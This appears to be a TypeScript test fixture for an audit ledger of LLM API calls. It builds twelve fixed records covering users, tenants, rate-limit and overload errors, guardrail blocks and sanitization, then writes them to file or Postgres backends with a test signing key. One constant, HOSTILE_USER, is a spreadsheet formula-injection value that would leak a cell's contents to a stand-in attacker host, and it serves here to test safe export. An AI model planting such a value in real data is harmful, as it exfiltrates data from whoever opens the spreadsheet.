/**
 * The fixed data set of the auditor's commands and of docs/auditor-guide.md: twelve calls by four
 * users in two tenants over four days (2026-11-02 .. 2026-11-05), two providers, 429/529/400
 * errors, guardrail blocks and flags, sanitization with and without kinds, and a user id that a
 * spreadsheet would run as a formula. Everything is fixed (ids, times, the signing key), so every
 * output is the same on every run and on both backends.
 */
import { createPrivateKey, type KeyObject } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createContentHasher } from '../../src/audit/hashing';
import { chatCompletions } from '../../src/instrumentations/openai/index';
import { FileLedger } from '../../src/ledger/file/ledger';
import { PostgresLedger } from '../../src/ledger/postgres/writer';
import type { LedgerRecord } from '../../src/ledger/record';
import { makeRecord } from '../ledger/helpers';

export const KEY_DIR = join(__dirname, '../fixtures/auditor');
/** A key for these tests only: it signs nothing else. */
export const SIGNING_KEY = join(KEY_DIR, 'signing.pem');
export const PUBLIC_KEY = join(KEY_DIR, 'signing.pem.pub');
/** The prompt of req-0001 and the hash key it was hashed with (docs/auditor-guide.md recomputes it). */
export const PROMPT_FILE = join(KEY_DIR, 'prompt.json');
export const HASH_KEY = 'guide-hash-key-0123456789abcdef';
export const HASH_KEY_ID = 'k2026';

/** The hashes the instrumentation records for PROMPT_FILE sent to chat.completions.create. */
function promptHashes(): Partial<LedgerRecord> {
  const hasher = createContentHasher({ key: HASH_KEY, keyId: HASH_KEY_ID });
  const { system, input } = chatCompletions.prompt({ messages: JSON.parse(readFileSync(PROMPT_FILE, 'utf8')) });
  return { system_prompt_hash: hasher.hash(system), input_hash: hasher.hash(input) };
}

export const HOSTILE_USER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

const gpt = { provider: 'openai', model: { request: 'gpt-4o', response: 'gpt-4o-2024-08-06' }, action: 'chat.completions.create', operation: 'chat' };
const claude = { provider: 'anthropic', model: { request: 'claude-sonnet-4', response: 'claude-sonnet-4-20250514' }, action: 'messages.create', operation: 'chat' };
const failed = (model: { request: string }) => ({ model: { request: model.request, response: null }, cost_usd: null, output_tokens: 0, output_hash: null });

const hex = (n: number, width: number): string => n.toString(16).padStart(width, '0');

export function auditorRecords(): LedgerRecord[] {
  const list: Array<Partial<LedgerRecord>> = [
    { timestamp: '2026-11-02T09:00:00.000Z', user_id: 'alice', tenant_id: 'acme', session_id: 's-alice-1', ...gpt, ...promptHashes(), input_tokens: 1000, output_tokens: 200, cache_read_tokens: 300, cost_usd: 0.02 },
    {
      timestamp: '2026-11-02T09:05:00.000Z', user_id: 'alice', tenant_id: 'acme', session_id: 's-alice-1', ...gpt, ...failed(gpt.model), status: 'error', input_tokens: null,
      error_type: 'rate_limit_exceeded', http_status: 429, error_message: 'Rate limit reached for requests',
    },
    { timestamp: '2026-11-02T10:00:00.000Z', user_id: 'bob', tenant_id: 'acme', ...claude, input_tokens: 800, output_tokens: 400, thinking_tokens: 120, cost_usd: 0.05, sanitization_count: 2 },
    {
      timestamp: '2026-11-02T11:00:00.000Z', user_id: 'bob', tenant_id: 'acme', ...claude, ...failed(claude.model), status: 'blocked', input_tokens: null, input_hash: 'sha256:' + 'ee'.repeat(32),
      guardrails: [{ name: 'pii-filter', action: 'blocked', policy_id: 'pol-7', severity: 'high', time: '2026-11-02T11:00:00.000Z' }],
    },
    {
      timestamp: '2026-11-03T09:00:00.000Z', user_id: 'carol', tenant_id: 'globex', ...gpt, input_tokens: 500, output_tokens: 100, cost_usd: 0.01,
      guardrails: [{ name: 'toxicity', action: 'flagged', severity: 'low', time: '2026-11-03T09:00:01.000Z' }],
    },
    // A record of a newer version carries the findings per kind (read where present).
    {
      timestamp: '2026-11-03T09:30:00.000Z', user_id: 'carol', tenant_id: 'globex', ...gpt, input_tokens: 600, output_tokens: 120, cost_usd: 0.012, sanitization_count: 3,
      ...({ sanitization: { mode: 'redact', kinds: { email: 2, credit_card: 1 } } } as Partial<LedgerRecord>),
    },
    { timestamp: '2026-11-03T12:00:00.000Z', user_id: HOSTILE_USER, tenant_id: 'globex', ...gpt, input_tokens: 50, output_tokens: 10, cost_usd: null },
    {
      timestamp: '2026-11-04T08:00:00.000Z', user_id: 'alice', tenant_id: 'acme', ...claude, ...failed(claude.model), status: 'error', input_tokens: null,
      error_type: 'overloaded_error', http_status: 529, error_message: 'Overloaded',
    },
    { timestamp: '2026-11-04T08:30:00.000Z', user_id: 'alice', tenant_id: 'acme', ...claude, input_tokens: 900, output_tokens: 300, cost_usd: 0.04 },
    {
      timestamp: '2026-11-04T15:00:00.000Z', user_id: 'bob', tenant_id: 'acme', ...gpt, ...failed(gpt.model), status: 'blocked', input_tokens: null,
      guardrails: [{ name: 'pii-filter', action: 'blocked', policy_id: 'pol-7', severity: 'high', reason: 'the prompt holds an e-mail address', time: '2026-11-04T15:00:00.000Z' }],
    },
    { timestamp: '2026-11-05T10:00:00.000Z', user_id: 'carol', tenant_id: 'globex', session_id: 's-carol-9', ...claude, input_tokens: 700, output_tokens: 250, cost_usd: 0.03, sanitization_count: 1 },
    {
      timestamp: '2026-11-05T10:10:00.000Z', user_id: 'carol', tenant_id: 'globex', session_id: 's-carol-9', ...claude, ...failed(claude.model), status: 'error', input_tokens: null,
      error_type: 'invalid_request_error', http_status: 400, error_message: 'messages: text content blocks must be non-empty',
    },
  ];
  return list.map((fields, i) =>
    makeRecord({
      v: 2,
      request_id: `req-${String(i + 1).padStart(4, "0")}`,
      trace_id: hex(0x4bf92f35 + i, 32),
      span_id: hex(0x00f067aa + i, 16),
      latency_ms: 800 + 100 * i,
      ...fields,
    }),
  );
}

export function signingKey(): KeyObject {
  return createPrivateKey(readFileSync(SIGNING_KEY));
}

/** Writes the records, each on its own day and time, checkpointing every 4 records (so at 4, 8 and 12). */
export async function writeAuditorLedger(target: { dir: string } | { url: string }, list = auditorRecords()): Promise<void> {
  let now = new Date(list[0]!.timestamp);
  const options = { clock: () => now, signingKey: signingKey(), checkpointEvery: 4, checkpointIntervalMs: 365 * 86_400_000 };
  const ledger = 'dir' in target ? await FileLedger.open({ dir: target.dir, fsync: 'none', ...options }) : await PostgresLedger.open({ url: target.url, ...options });
  for (const r of list) {
    // Appended a second after the call began, as an exporter would.
    now = new Date(Date.parse(r.timestamp) + 1000);
    await ledger.append([r]);
  }
  await ledger.close();
}
